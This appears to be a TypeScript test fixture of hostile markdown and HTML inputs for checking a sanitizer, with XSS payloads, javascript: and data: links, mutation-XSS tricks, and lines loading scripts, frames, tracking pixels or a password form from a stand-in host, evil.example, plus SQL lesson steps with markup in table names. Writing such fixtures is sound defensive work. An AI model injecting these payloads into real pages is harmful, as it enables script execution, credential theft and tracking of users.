// Markdown that tries to run a script, load something from elsewhere, or look like a part of the page: what it is, and its text.

export const HOSTILE_PROSE: readonly (readonly [string, string])[] = [
  ["a script", "<script>alert(1)</script>"],
  ["a script in odd case", "<ScRiPt src=https://evil.example/x.js></sCrIpT>"],
  ["a handler on a picture", '<img src=x onerror="alert(1)">'],
  ["a handler without quotes", "<p onclick=alert(1)>x</p>"],
  ["a handler after a slash", "<img/src=x/onerror=alert(1)>"],
  ["a javascript: link", "[x](javascript:alert(1))"],
  ["a javascript: link with a tab", '<a href="java\tscript:alert(1)">x</a>'],
  ["a javascript: link with entities", '<a href="&#106;avascript&#58;alert(1)">x</a>'],
  ["a javascript: link with spaces before", '<a href="  javascript:alert(1)">x</a>'],
  ["a vbscript: link", "[x](vbscript:msgbox)"],
  ["a data: link", "[x](data:text/html;base64,PHNjcmlwdD4=)"],
  ["a reference to javascript:", "[x][y]\n\n[y]: javascript:alert(1)"],
  ["an autolink to javascript:", "<javascript:alert(1)>"],
  ["a protocol-relative link", '<a href="//evil.example">x</a>'],
  ["a frame", '<iframe src="https://evil.example"></iframe>'],
  ["an object", '<object data="x.swf"></object><embed src="x">'],
  ["a style element", "<style>body{display:none}</style>"],
  ["a style attribute", '<p style="position:fixed;inset:0">x</p>'],
  ["a base", '<base href="https://evil.example/">'],
  ["a meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ["a form", '<form action="https://evil.example"><input name=password><button>ok</button></form>'],
  ["an svg with a script", "<svg><script>alert(1)</script></svg>"],
  ["an svg with a handler", "<svg onload=alert(1)>"],
  ["mathml hiding markup", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"],
  ["a template", "<template><img src=x onerror=alert(1)></template>"],
  ["noscript hiding markup", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ["a comment hiding markup", "<!--><img src=x onerror=alert(1)>-->"],
  ["an attribute that breaks out", '<img alt="`><img src=x onerror=alert(1)>" src=a>'],
  ["a handler on details", "<details ontoggle=alert(1) open>x</details>"],
  ["an id and a class of ours", '<p id="main" class="bar" data-slot="bar" data-step="s1">x</p>'],
  ["a remote picture", "![track](https://evil.example/pixel.png)"],
  ["a remote picture without protocol", '<img src="//evil.example/pixel.png">'],
  ["a picture set", '<img srcset="https://evil.example/a.png 2x" src="a.png">'],
  ["script in a code fence's name", '```"><script>alert(1)</script>\nx\n```'],
  ["markup in code", "```sql\n</code></pre><script>alert(1)</script>\n```"],
  ["markup in a title", '[x](https://example.org "\\"><script>alert(1)</script>")'],
  [
    "a link that opens by name",
    '<a href="https://example.org" target="evil" ping="https://evil.example">x</a>',
  ],
];

const MARKUP = "<img src=x onerror=alert(1)>";

/** A lesson's steps whose table, column, rows, claim, notice and error are markup. */
export const HOSTILE_STEPS = `On **dev**:

\`\`\`sql db=dev check="${MARKUP}"
CREATE TABLE "${MARKUP}" ("<svg onload=alert(1)>" text);
INSERT INTO "${MARKUP}" VALUES ('<script>alert(1)</script>'), ('"><iframe srcdoc="<script>alert(1)</script>">');
DO $$ BEGIN RAISE NOTICE '${MARKUP}'; END $$;
SELECT * FROM "${MARKUP}";
\`\`\`

\`\`\`sql db=dev error=42P01
SELECT * FROM "</pre>${MARKUP}";
\`\`\`
`;
